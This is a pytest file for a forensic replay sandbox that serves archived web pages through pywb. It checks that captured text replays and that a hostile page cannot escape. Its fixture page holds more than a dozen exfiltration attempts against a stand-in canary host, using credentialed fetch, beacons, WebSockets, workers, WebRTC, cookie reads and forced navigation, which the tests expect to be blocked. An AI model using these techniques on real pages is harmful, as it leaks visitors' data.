"""Replay: pywb as a program of its own shows the text of the finding, and a hostile capture gets nowhere."""

from __future__ import annotations

import http.client
import os
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, expect, sync_playwright
from typer.testing import CliRunner

from casework import export, intake, replay
from casework.desk import Desk
from cli.main import app
from cli.replay import found_tool, running
from cli.replay_guard import Guard, free_port
from core import browsers
from core.errors import BadInput, Unavailable
from core.model import Artifact, Capture, Exchange
from core.settings import Settings
from evidence import custody
from tests.casework.desks import PHONE, PNG, SEEN, actor, make_desk, make_post
from tests.cli.processes import PATIENCE
from tests.public_tools import tool

BODY = f"上门家教，数学一对一，电话{PHONE}"
# The words come by script out of a data call: replay must run the page's own script and answer its own questions.
HTML = """<html><head><meta charset=gbk><title>家教</title></head><body><p id=p>正在载入</p><script>
fetch('/data.json').then(answer => answer.json()).then(said => { document.getElementById('p').textContent = said.text; });
</script></body></html>"""


def capture() -> Capture:
    def exchange(path: str, kind: str, body: bytes) -> Exchange:
        return Exchange(
            url=f"http://tutor.test{path}", at=SEEN, body=body,
            request_head=f"GET {path} HTTP/1.1\r\nHost: tutor.test\r\n\r\n".encode(),
            response_head=f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n\r\n".encode(),
        )  # fmt: skip

    data = f'{{"text":"{BODY}"}}'.encode()
    return Capture(
        url="http://tutor.test/1", started_at=SEEN, ended_at=SEEN + timedelta(seconds=2),
        exchanges=(exchange("/1", "text/html; charset=gbk", HTML.encode("gbk")), exchange("/data.json", "application/json", data)),
        artifacts=(Artifact(role="screenshot", media_type="image/png", content=PNG, how="full-page-screenshot"),
                   Artifact(role="dom", media_type="text/html", content=BODY.encode(), how="drawn-dom")),
    )  # fmt: skip


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    config = tmp_path / "config"
    (config / "violations").mkdir(parents=True)
    made = make_desk(tmp_path / "data", config, f"sqlite:///{tmp_path / 'x.sqlite3'}")
    intake.take_in(made, make_post(BODY), capture())
    intake.attach(made, "post1", capture())
    yield made
    made.close()


@contextmanager
def guarded(captures: list[replay.Capture], tool_port: int, scripts: bool = True) -> Iterator[Guard]:
    guard = Guard(captures, tool_port, scripts=scripts)
    thread = threading.Thread(target=guard.serve_forever)
    thread.start()
    try:
        yield guard
    finally:
        guard.shutdown()
        thread.join()
        guard.server_close()


@contextmanager
def browsing(flags: list[str]) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        made = playwright.chromium.launch(
            executable_path=browsers.headless(""), chromium_sandbox=os.geteuid() != 0, args=flags
        )
        yield made
        made.close()


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["bundle", "unpacked", "finding"])
def test_the_replayed_page_has_the_text_of_the_finding(desk: Desk, tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "replay"
    folder.mkdir()
    if kind == "finding":
        captures = replay.of_finding(desk, actor(), "post1", folder)
        events = [entry["event"] for entry in custody.chain(desk.vault, captures[0].name)]
        assert events[-1] == "viewed"
    else:
        bundle = tmp_path / "bundle.zip"
        export.hand_over(desk, actor(), ("post1",), bundle)
        if kind == "unpacked":
            with zipfile.ZipFile(bundle) as packed:
                packed.extractall(tmp_path / "unpacked")
            bundle = tmp_path / "unpacked"
        captures = replay.from_bundle(bundle, folder)
    assert len(captures) == 2
    with (
        running(tool("wayback"), folder) as port,
        guarded(captures, port) as guard,
        browsing(guard.flags) as browser,
    ):
        page = browser.new_page()
        page.set_default_timeout(PATIENCE * 1000)
        page.goto(guard.url)
        assert "浏览器取证" in page.inner_text("main")
        page.click("main a")
        # Pywb's own page makes the frame by script, and the page's script draws the text: both are waited for.
        expect(page.frame_locator("iframe").first.locator("p")).to_have_text(BODY, timeout=PATIENCE * 1000)


class Hostile(BaseHTTPRequestHandler):
    """In the tool's place, with a page that pywb has not even rewritten: the guard alone must hold it."""

    page: ClassVar[bytes] = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Set-Cookie", "spy=1")
        self.send_header("Content-Security-Policy", "default-src *")
        self.send_header("Link", f"<{CANARY}/link>; rel=preload; as=script")
        self.send_header("Content-Length", str(len(self.page)))
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_: object) -> None:
        pass


ONE = replay.Capture("a" * 64, "http://tutor.test/1", "20260301080000", "浏览器取证")
CANARY = "CANARY"
ATTEMPTS = """<html><head>
<link rel=stylesheet href=CANARY/css><link rel=prefetch href=CANARY/prefetch><link rel=preconnect href=CANARY/>
<link rel=modulepreload href=CANARY/mod><style>@import url(CANARY/import); @font-face{font-family:f;src:url(CANARY/font)}
body{background:url(CANARY/bg);font-family:f}</style><script src=CANARY/script></script></head><body>text
<img src=CANARY/img><video src=CANARY/video></video><object data=CANARY/object></object><embed src=CANARY/embed>
<iframe src=CANARY/frame></iframe><iframe srcdoc="<script>location='CANARY/srcdoc'</script>"></iframe>
<iframe src="data:text/html,<script>fetch('CANARY/data')</script>"></iframe>
<form id=f action=CANARY/form method=post></form><a id=a href=CANARY/anchor target=_top>x</a><a id=b href=CANARY/blank target=_blank>x</a>
<a id=d href=CANARY/download download>x</a><a id=e href=HOME/ ping=CANARY/ping>x</a>
<script>
const done = [];
const tries = {
 fetch: () => fetch('CANARY/fetch', {mode: 'no-cors', credentials: 'include'}), home: () => fetch('HOME/').then(r => r.text()),
 post: () => fetch('CANARY/post', {method: 'POST', mode: 'no-cors', body: 'x'}),
 beacon: () => { navigator.sendBeacon('CANARY/beacon', 'x'); throw 1; },
 socket: () => new Promise((ok, no) => { const s = new WebSocket('CANARY/ws'.replace('http', 'ws')); s.onopen = ok; s.onerror = no; }),
 events: () => new Promise((ok, no) => { const s = new EventSource('CANARY/sse'); s.onopen = ok; s.onerror = no; }),
 worker: () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/worker',{mode:'no-cors'}).then(()=>postMessage(1),()=>postMessage(0))"]))); w.onmessage = e => e.data ? ok() : no(); w.onerror = no; }),
 popup: () => { if (!open('CANARY/popup')) throw 1; },
 top: () => { top.location = 'CANARY/top'; throw 1; }, parent: () => { if (parent.document.body) return; throw 1; },
 cookie: () => { if (document.cookie) return; throw 1; }, storage: () => { localStorage.setItem('a', '1'); },
 register: () => navigator.serviceWorker.register('/sw.js'),
 rtc: () => new Promise((ok, no) => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
   p.createDataChannel('x'); p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && no(); p.createOffer().then(o => p.setLocalDescription(o)).catch(no); setTimeout(no, 3000); }),
};
(async () => {
 for (const [name, attempt] of Object.entries(tries)) { try { await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 3000))]); done.push(name); } catch (error) { done.push('-' + name); } }
 document.body.dataset.done = done.join(' ');
})();
window.leave = way => {
 for (const id of ['a', 'b', 'd', 'f']) { const e = document.getElementById(id); e.submit ? e.submit() : e.click(); }
 if (way === 'click') document.getElementById('e').click(); else location = 'CANARY/location';
};
</script></body></html>"""


class Listener:
    """Any connection or packet that comes is a leak."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.packets.bind(("127.0.0.1", 0))
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection = self.server.accept()[0]
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.heard.append(connection.recv(200))
                except OSError:
                    self.heard.append(b"connected")

    def _receive(self) -> None:
        while True:
            try:
                self.heard.append(self.packets.recv(200))
            except OSError:
                return

    def hear_us(self) -> None:
        """Until a connection of our own is heard: whatever came before it is heard, too."""
        with socket.create_connection(self.server.getsockname(), PATIENCE) as connection:
            connection.sendall(b"us")
            assert connection.recv(1) == b""  # closed by the listener once it has noted us

    def close(self) -> None:
        self.server.close()
        self.packets.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.mark.browser
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "outside.example"])
def test_a_hostile_page_reaches_neither_our_site_nor_the_network(listener: Listener, host: str) -> None:
    with ThreadingHTTPServer(("127.0.0.1", 0), Hostile) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with guarded([ONE], server.server_address[1]) as guard, browsing(guard.flags) as browser:
            canary = f"http://{host}:{listener.server.getsockname()[1]}"
            text = ATTEMPTS.replace("CANARY", canary).replace("HOME", f"http://{guard.home}")
            Hostile.page = text.replace("UDP", str(listener.packets.getsockname()[1])).encode()
            context = browser.new_context()
            context.set_default_timeout(PATIENCE * 1000)  # its fourteen tries have three seconds each
            context.add_cookies([{"name": "session", "value": "officer", "url": canary}])
            page = context.new_page()
            for way in ("click", "location"):  # its own address last of all: either ends the page
                page.goto(f"{guard.url}{ONE.name}")
                frame = page.frames[1]
                frame.wait_for_function("() => document.body && document.body.dataset.done")
                done = str(frame.get_attribute("body", "data-done")).split()
                assert [name for name in done if not name.startswith("-")] == []
                assert len(done) == 14
                with page.expect_event("framenavigated", lambda moved, own=frame: moved == own):
                    frame.evaluate("way => { setTimeout(() => leave(way)) }", way)
            listener.hear_us()
            assert listener.heard == [b"us"]
            assert page.url == f"{guard.url}{ONE.name}"
            assert [cookie["name"] for cookie in context.cookies()] == ["session"]
        server.shutdown()


@pytest.mark.browser
def test_in_any_other_browser_the_pages_script_does_not_run() -> None:
    Hostile.page = b"<html><body><p>text</p><script>document.body.dataset.done = 1</script></body></html>"
    with ThreadingHTTPServer(("127.0.0.1", 0), Hostile) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with guarded([ONE], server.server_address[1], scripts=False) as guard, browsing([]) as browser:
            page = browser.new_page()
            page.set_default_timeout(PATIENCE * 1000)
            page.goto(f"{guard.url}{ONE.name}")
            assert page.frame_locator("iframe").locator("p").inner_text() == "text"
            assert page.frames[1].get_attribute("body", "data-done") is None
        server.shutdown()


def test_nobody_else_may_read_what_is_replayed(tmp_path: Path) -> None:
    with guarded([], 9) as guard:
        port = guard.server_address[1]
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", "evil.example", f"x.localhost:{port}"):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
            connection.request("GET", "/", headers={"Host": host})
            assert connection.getresponse().status == 421, host
            connection.close()


def test_what_is_no_bundle_is_said(tmp_path: Path) -> None:
    (tmp_path / "x.zip").write_bytes(b"no zip")
    with pytest.raises(BadInput, match="不是可以回放的证据包"):
        replay.from_bundle(tmp_path / "x.zip", tmp_path)


def test_without_the_tool_one_line_says_how_to_get_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    told = CliRunner().invoke(app, ["replay", str(tmp_path / "bundle.zip")])
    assert told.exit_code == 3
    assert "pip install pywb" in told.output
    assert CliRunner().invoke(app, ["replay"]).exit_code == 2


def test_a_port_that_another_program_took_first_is_not_taken_for_the_tools(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as stranger:
        free = free_port()
        ports = iter([stranger.getsockname()[1], free])
        monkeypatch.setattr("cli.replay.free_port", lambda: next(ports))
        (tmp_path / "collections").mkdir()
        with running(tool("wayback"), tmp_path) as port:
            assert port == free


def test_a_tool_that_does_not_start_says_why(tmp_path: Path) -> None:
    broken = tmp_path / "wayback"
    broken.write_text("#!/bin/sh\necho no such library\nexit 1\n")
    broken.chmod(0o700)
    with pytest.raises(Unavailable, match="no such library"), running(str(broken), tmp_path):
        pass


def test_a_configured_tool_is_used() -> None:
    assert found_tool(Settings(replay_tool=tool("wayback"))) == tool("wayback")


def test_the_command_shows_a_finding_until_it_is_told_to_stop(desk: Desk, tmp_path: Path) -> None:
    environment = {
        name: value for name, value in os.environ.items() if name not in ("DISPLAY", "WAYLAND_DISPLAY")
    }
    environment |= {"WANGXUN_DATA": str(desk.settings.data), "WANGXUN_STORE": desk.settings.store,
                    "WANGXUN_REPLAY_TOOL": tool("wayback"), "PYTHONUNBUFFERED": "1"}  # fmt: skip
    command = [sys.executable, "-m", "cli.main", "replay", "--finding", "post1"]
    with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            said = process.stdout.readline()
            assert "页面脚本不运行" in said
            host = said.partition("http://")[2].partition("/")[0]
            port = int(host.rpartition(":")[2])
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
            connection.request("GET", "/", headers={"Host": host})
            assert "浏览器取证" in connection.getresponse().read().decode()
            connection.close()
        finally:
            process.terminate()
        assert process.wait(PATIENCE) == 0
